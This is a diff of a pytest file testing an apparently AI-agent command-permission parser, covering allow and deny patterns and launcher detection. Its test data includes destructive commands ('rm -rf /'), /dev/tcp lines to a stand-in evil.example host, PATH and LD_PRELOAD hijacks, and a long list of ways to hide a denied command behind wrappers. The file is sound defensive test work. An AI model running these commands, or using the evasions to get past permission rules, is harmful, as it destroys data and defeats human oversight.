@@ -2,230 +2,279 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from agenttool.policy.commands import MAX_COMMAND, parse_commands
+from agenttool.policy.commands import command_pattern, list_argv, list_commands
+from agenttool.policy.shell import parse_commands
 
 
-def listed(text):
-    return [[word.text for word in each.words] for each in parse_commands(text).subcommands if each.words]
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "a && rm x",
-        "a || rm x",
-        "a ; rm x",
-        "a | rm x",
-        "a |& rm x",
-        "a & rm x",
-        "a\nrm x",
-        "a\n\n  rm x",
-        "( a; rm x )",
-        "{ a; rm x; }",
-        "a $(rm x)",
-        'a "$(rm x)"',
-        "a `rm x`",
-        'a "`rm x`"',
-        "a <(rm x)",
-        "a > >(rm x)",
-        "a $(b $(rm x))",
-        "if a; then rm x; fi",
-        "if a; then b; elif c; then rm x; fi",
-        "for i in 1 2; do a; rm x; done",
-        "while a; do rm x; done",
-        "until a; do rm x; done",
-        "case y in a) a;; b) rm x;; esac",
-        "a() { rm x; }; a",
-        "function a { rm x; }; a",
-        "a; ! rm x",
-        "a <<EOF\n$(rm x)\nEOF\n",
-        'a <<< "$(rm x)"',
-        "a <<EOF | rm x\nq\nEOF\n",
-        "a <<EOF && rm x\nq\nEOF\n",
-        "b=$(rm x) a",
-        "b=$(rm x); a",
-        "b=1 c=$(rm x); a",
-        "b[$(rm x)]=1 a",
-        "b=(1 $(rm x)); a",
-        "export b=$(rm x); a",
-        "a ${b:-$(rm x)}",
-        "a $((1 + $(rm x)))",
-        "[ -f $(rm x) ] && a",
-        "[ -f `rm x` ] && a",
-        "[[ -f $(rm x) ]] && a",
-        "a > $(rm x)",
-        "a; > out rm x",
-        "a; 2>&1 >/dev/null rm x",
-        "a; rm > out x",
-        "a; \\rm x",
-        "a; 'rm' x",
-        'a; "r"m x',
-        "a; r'm' \"x\"",
-        "a; $'rm' x",
-        "a; rm \\\n x",
-        "a; rm x # b",
-    ],
-)
-def test_every_command_of_a_line_is_listed_however_it_is_reached(text):
-    assert ["rm", "x"] in listed(text)
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "rm 'unterminated",
-        "r\\\nm x",
-        "rm x\r\nls",
-        "aa =~\nrm x",
-        "aa in ``\nrm x",
-        "!'rm' x",
-        "1x=1 rm x",
-        "*x=1",
-        "x=()rm =",
-        "a; \\ rm x",
-        "a \\ #; rm x",
-        "a ]\\  rm",
-        "b=$\nrm x",
-        "a $\nrm x",
-        "a\n\\\nrm x",
-        "a\n\\rm x",
-        "a ]#\\\n \nrm x",
-        "a\n-2>&1",
-        "{rm,x} \na ; }",
-        "# a \\\nrm x",
-        "a |x=1 |&local \nrm! && b",
-        "x=()#b $y rm",
-        "a <<-E\nE>f rm x",
-        "[ \nrm ]",
-        "[ a && rm ]",
-        "a > f }\\rm x",
-        "a --<<E\nq\nE\nrm x",
-        "a <<E\nrm x",
-        "a <<E\n`rm x`\nE\n",
-        "a <<E\n $(rm x)\nE\n",
-        "a <<'E'b\nq\nE\n",
-        "a <<$x\nq\n$x\nrm x",
-        "((rm x); a)",
-        "a $((rm x); b)",
-        "a `b \\`rm x\\``",
-        "a ${b@P}",
-        "printf -v 'a[$(rm x)]' y",
-        "read a[\\$\\(rm\\)]",
-        "[[ -v 'a[$(rm x)]' ]]",
-        'let "a[\\$(rm x)]=1"',
-        "unset 'a[''$(rm x)'']'",
-        "x='a[`rm x`]'; echo $((x))",
-        "cat < /dev/tcp/evil.example/80",
-        "echo x > /dev/tcp/evil.example/80",
-        "exec 3<>f",
-        "a && b > out rm",
-        "f() rm x",
-        "x" * (MAX_COMMAND + 1),
-        "\ud800",
-        "(" * 200 + "a" + ")" * 200,
-    ],
-)
-def test_what_a_shell_might_read_differently_is_in_doubt(text):
-    assert parse_commands(text).doubts
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "git status",
-        "a && b | c",
-        "a $x",
-        "for f in *.py; do black $f; done",
-        "cat <<'EOF'\n$(rm x)\nEOF\n",
-        "",
-        "# a",
-        'echo "[$(date)]"',
-        "grep '[a-z]$'",
-        "awk '{ n[$1]++ } END { print n[$2] }'",
-    ],
-)
-def test_what_is_plain_is_not_in_doubt(text):
-    assert parse_commands(text).doubts == ()
-
-
-def test_text_that_is_only_quoted_runs_nothing():
-    assert listed("echo 'rm x; rm y' \"\\$(rm x)\"") == [["echo", "rm x; rm y", "$(rm x)"]]
-    assert listed("cat <<'EOF'\n$(rm x)\nEOF\n") == [["cat"]]
-
-
-def redirections(text):
-    found = parse_commands(text).subcommands
-    return (
-        [word.text for each in found for word in each.writes],
-        [word.text for each in found for word in each.reads],
-    )
-
-
-@pytest.mark.parametrize(
-    ("text", "writes", "reads"),
-    [
-        ("a > f", ["f"], []),
-        ("a >> f 2> g", ["f", "g"], []),
-        ("a >| f", ["f"], []),
-        ("a &> f", ["f"], []),
-        ("a &>> f", ["f"], []),
-        ("a >& f", ["f"], []),
-        ("a 2>&1 >/dev/null", [], []),
-        ("a < f", [], ["f"]),
-        ("a <<EOF > f\nx\nEOF\n", ["f"], []),
-        ("while a; do b; done < f > g", ["g"], ["f"]),
-        ("(a; b) > f", ["f"], []),
-        ("a | b > f", ["f"], []),
-        ("> f", ["f"], []),
-        ("a $(<f)", [], ["f"]),
-        ("a > 'f g'", ["f g"], []),
-    ],
-)
-def test_redirections_are_told_as_files_written_and_read(text, writes, reads):
-    assert redirections(text) == (writes, reads)
-
-
-def test_what_a_command_sets_before_it_runs_is_told():
-    [subcommand] = parse_commands("A=1 B='x y' cmd arg").subcommands
-    assert [word.text for word in subcommand.assignments] == ["A=1", "B=x y"]
-    [alone] = parse_commands("PATH=/evil").subcommands
-    assert [word.text for word in alone.assignments] == ["PATH=/evil"]
-    [two] = parse_commands("A=1 B=2").subcommands
-    assert [word.text for word in two.assignments] == ["A=1", "B=2"]
-
-
-def certainties(text):
+def only(text):
     [subcommand] = parse_commands(text).subcommands
-    return [word.certainty.value for word in subcommand.words[1:]]
+    return subcommand
 
 
-def test_a_word_is_plain_expands_or_is_unknown():
-    assert certainties("a b 'c*' \"d?\" e\\* 7 {} x=y") == ["plain"] * 7
-    assert certainties("a *.py ?x src/*") == ["expands", "expands", "expands"]
-    assert certainties('a $x "$x" ${x} {a,b} {1..3} $((1)) a[bc]') == ["unknown"] * 7
-
-
-simple = st.lists(
-    st.sampled_from(["git", "status", "-v", "a.txt", "x y", "$(not run)", "it's", "|", "&&"]), min_size=1, max_size=3
+@pytest.mark.parametrize(
+    ("pattern", "command", "covered"),
+    [
+        ("git status", "git status", True),
+        ("git status", "git  'status'", True),
+        ("git status", "git status -v", False),
+        ("git status", "git", False),
+        ("git status", "/usr/bin/git status", False),
+        ("git status", "./git status", False),
+        ("git status", "GIT status", False),
+        ("git log *", "git log", True),
+        ("git log *", "git log -3 --stat", True),
+        ("git log *", "git log $x", True),
+        ("git log *", "git $x", False),
+        ("git log -3", "git log $x", False),
+        ("npm run test:*", "npm run test:unit", True),
+        ("npm run test:*", "npm run build", False),
+        ("*", "anything at all", True),
+        ("*", "$x", False),
+        ("git status", "A=1 git status", False),
+        ("A=1 git status", "A=1 git status", True),
+        ("A=1 git status", "A=2 git status", False),
+        ("A=* git status", "A=2 git status", True),
+        ("A=* git status", "A=$x git status", False),
+        ("git status", "LANG=C git status", True),
+        ("git status", "LD_PRELOAD=x git status", False),
+        ("wc -l", "wc -l < f", False),
+        ("wc *", "wc -l < f", True),
+        ("PATH=/bin", "PATH=/bin", True),
+        ("git status", "PATH=/evil", False),
+        ("*", "PATH=/evil", False),
+    ],
 )
+def test_an_allow_covers_exactly_what_it_says(pattern, command, covered):
+    assert command_pattern(pattern).covers(only(command)) is covered
 
 
-def quoted(words, draw_quote):
-    return " ".join(
-        "'" + word.replace("'", "'\\''") + "'" if draw_quote or not word.isalnum() else word for word in words
-    )
+@pytest.mark.parametrize(
+    ("pattern", "command", "hit"),
+    [
+        ("rm", "rm x", True),
+        ("rm -rf", "rm -rf /", True),
+        ("rm -rf", "rm -fr /", True),
+        ("rm -rf", "rm -r -f /", True),
+        ("rm -rf", "rm / -r -v -f", True),
+        ("rm -rf", "rm -r /", False),
+        ("rm -rf", "rm $flags /", True),
+        ("rm -rf *", "rm -rf /", True),
+        ("git push", "git push origin main", True),
+        ("git push", "git -C /x push", True),
+        ("git push", "git pull", False),
+        ("git push --force", "git push origin --force", True),
+        ("git push --force", "git push origin --forc", True),
+        ("git push --force", "git push --force=yes", True),
+        ("git push --force", "git push --force-with-lease", False),
+        ("git push --force", "git push", False),
+        ("git push --force", "git push $x", True),
+        ("git push --force", "git $x", True),
+        ("curl *", "curl", True),
+        ("/usr/bin/curl", "curl x", True),
+        ("curl", "/opt/curl x", True),
+        ("LD_PRELOAD=*", "LD_PRELOAD=x ls", True),
+        ("LD_PRELOAD=*", "LD_PRELOAD=$x ls", True),
+        ("LD_PRELOAD=*", "LANG=$x ls", False),
+        ("LD_PRELOAD=*", "ls", False),
+        ("*", "anything", True),
+        ("rm", "/bin/r? x", True),
+        ("rm", "*.py x", False),
+        ("git push", "git p*", True),
+        ("git push", "git l*", False),
+    ],
+)
+def test_a_deny_hits_whatever_may_be_meant(pattern, command, hit):
+    assert command_pattern(pattern).hits(only(command)) is hit
 
 
-@given(st.lists(st.tuples(simple, st.booleans()), min_size=1, max_size=4), st.data())
-def test_commands_joined_in_any_way_are_the_same_commands(parts, data):
-    text = quoted(*parts[0])
-    for words, quotes in parts[1:]:
-        command = quoted(words, quotes)
-        join = data.draw(st.sampled_from(["{} && {}", "{} || {}", "{}; {}", "{} | {}", "{} & {}", "{}\n{}", "({}); {}",
-                                          "{} $({})", "if {}; then {}; fi", "{{ {}; }}; {}", "for i in 1; do {}; {}; done"]))  # fmt: skip
-        text = join.format(text, command)
-    line = parse_commands(text)
-    # A substitution adds a word to the command it stands in, so the command found may be longer.
-    found = [[word.text for word in each.words] for each in line.subcommands]
-    for words, _ in parts:
-        assert line.doubts or any(each[: len(words)] == words for each in found), (text, found)
+words = st.lists(st.sampled_from(["git", "log", "-v", "-x", "a", "--all", "$x", "*.py"]), min_size=1, max_size=4)
+
+
+@given(words, words)
+def test_what_an_allow_of_a_pattern_covers_a_deny_of_it_hits(pattern, command):
+    pattern = command_pattern(" ".join(pattern).replace("$x", "x"))
+    subcommand = only(" ".join(command))
+    if pattern.covers(subcommand):
+        assert pattern.hits(subcommand)
+
+
+@pytest.mark.parametrize(
+    ("text", "advice"),
+    [
+        ("", "at least a name"),
+        ("git 'status", "quotes in pairs"),
+        ("git status && ls", "one pattern per command"),
+        ("ls > out", "one pattern per command"),
+        ("echo $(ls)", "one pattern per command"),
+    ],
+)
+def test_what_is_no_pattern_is_refused_with_advice(text, advice):
+    with pytest.raises(ValueError, match=advice):
+        command_pattern(text)
+
+
+def hit(pattern, line):
+    return bool(line.doubts or line.suspicions) or any(command_pattern(pattern).hits(each) for each in line.subcommands)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "env rm x",
+        "env -i A=1 rm x",
+        "env -S 'rm x'",
+        "sudo rm x",
+        "env -- rm x",
+        "/opt/evil/env rm x",
+        "./bash -c 'rm x'",
+        "env $x rm x",
+        "timeout $x rm x",
+        "sudo -u root -- rm x",
+        "sudo -u root env A=1 nice -n 5 rm x",
+        "doas rm x",
+        "nice rm x",
+        "nohup rm x &",
+        "timeout 5 rm x",
+        "timeout -k 1 -s KILL 5 rm x",
+        "time rm x",
+        "command rm x",
+        "builtin rm x",
+        "exec rm x",
+        "stdbuf -o0 rm x",
+        "ls | xargs rm",
+        "ls | xargs -0 -n1 rm",
+        "ls | xargs -I{} rm {}",
+        "bash -c 'rm x'",
+        'sh -c "rm x"',
+        "/bin/bash -lc 'cd /; rm x'",
+        "bash -c \"bash -c 'rm x'\"",
+        "bash -euxc 'rm x'",
+        "zsh -c 'rm x'",
+        "sudo bash -c 'rm x'",
+        'sudo sh -c "env rm x"',
+        "find . -name '*.tmp' -exec rm {} ;",
+        "find . -execdir rm {} +",
+        "ssh host rm x",
+        "ssh host 'cd /; rm x'",
+        "watch -n1 rm x",
+        "busybox rm x",
+        "strace -f rm x",
+        "su -c 'rm x'",
+        "parallel rm ::: a b",
+        "/bin/rm x",
+        "../../bin/rm x",
+        "RM x",
+        "eval 'rm x'",
+        "eval $x",
+        "trap 'rm x' EXIT",
+        "$X x",
+        '"$X" x',
+        "$(echo rm) x",
+        "/bin/r? x",
+        "echo rm x | sh",
+        "bash -s < script",
+        'bash -c "$x"',
+        'sudo bash -c "$x"',
+        "sudo eval x",
+        "sudo " + "a " * 300 + "rm x",
+        "env " * 20 + "rm x",
+        "! { rm x; }",
+        "time { rm x; }",
+        "coproc rm x",
+        "time coproc rm x",
+        "time A=1 rm x",
+        "env --split-string='rm x'",
+        "env -S'rm x'",
+        "taskset 1 rm x",
+        "screen -dm rm x",
+        "tmux new-session 'rm x'",
+        "hash -p /bin/rm ls; ls x",
+        "mapfile -C 'rm x' -c 1 < file",
+        "alias ls=rm; ls x",
+        "source <(echo rm x)",
+        ". /dev/stdin <<< 'rm x'",
+        "bash /proc/self/fd/0 <<< 'rm x'",
+        "BASH_ENV=<(echo rm x) bash -c :",
+        "LD_PRELOAD=./rm.so ls",
+        "env -Srm x",
+        "env -iSrm x",
+        "env -iS'rm x'",
+        "env --split-string=rm x",
+        "script -qc'rm x' /dev/null",
+        "flock /tmp -c'rm x'",
+        "echo rm | xargs -I% env % x",
+        "echo rm | xargs -i {} x",
+        "echo x | xargs -I % rm %",
+        "choom -n 0 -- rm x",
+        "x86_64 rm x",
+        "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
+        "compgen -W '$(rm x)'",
+        "PS4='$(rm x)' bash -xc :",
+        "GIT_SSH_COMMAND='rm x' git fetch",
+        "uv run rm x",
+        "bundle exec rm x",
+        "kubectl exec pod -- rm x",
+        "docker exec -it box rm x",
+        "ENV rm x",
+        "printf -v z %s 'a[' '$(rm x)' ']'; ((z))",
+        "read z < file; if ((z > 1)); then ls; fi",
+        "read z < file; [[ $z -eq 1 ]]",
+        "read z < file; let z",
+        "read z < file; for ((i = z; i < 3; i++)); do ls; done",
+        "read z < file; echo ${y:z}",
+    ],
+)
+def test_a_deny_finds_the_command_behind_every_launcher(text):
+    assert hit("rm", list_commands(text))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "git rm x",
+        "echo rm",
+        "ls -rm",
+        "env ls",
+        "bash -c 'ls'",
+        "find . -name x",
+        "bash script.sh",
+        ". ./settings.sh",
+        "LANG=C ls",
+        "alias.sh",
+        "uv pip install rm",
+        "docker rm box",
+        "xargs -I% cp % there",
+        "ENV=test make",
+        "for ((i=0; i<3; i++)); do echo $i; done",
+        "if ((2 > 1)); then ls; fi",
+        "[[ 1 -eq 1 ]] && ls",
+        "[ $x -eq 1 ] && ls",
+        "[[ $x == y ]] && ls",
+        "echo ${y:1:2} ${y:-z}",
+    ],
+)
+def test_a_deny_does_not_find_what_is_not_there(text):
+    assert not hit("rm", list_commands(text))
+
+
+def needed(text):
+    return [[word.text for word in each.words] for each in list_commands(text).subcommands if not each.is_wrapper]
+
+
+def test_an_allow_need_not_name_a_wrapper_that_adds_nothing():
+    assert needed("env nice -n 5 timeout 5 git status") == [["git", "status"]]
+    assert needed("bash -lc 'git status && git log'") == [["git", "status"], ["git", "log"]]
+    assert needed("ls | xargs git log") == [["ls"], ["git", "log", ""]]
+    assert needed("ls | xargs -I{} git log {}") == [["ls"], ["git", "log", "{}"]]
+
+
+def test_an_allow_must_name_a_launcher_that_adds_power():
+    assert needed("sudo git status") == [["sudo", "git", "status"]]
+    assert needed("find . -delete") == [["find", ".", "-delete"]]
+    assert needed("env -S 'git status'") == [["env", "-S", "git status"]]
+
+
+def test_a_list_of_words_is_a_command_that_no_shell_reads():
+    assert hit("rm", list_argv(["bash", "-lc", "rm x"]))
+    assert not hit("rm", list_argv(["echo", "x; rm x"]))
+    assert list_argv(["echo", "$x", "*"]).doubts == ()
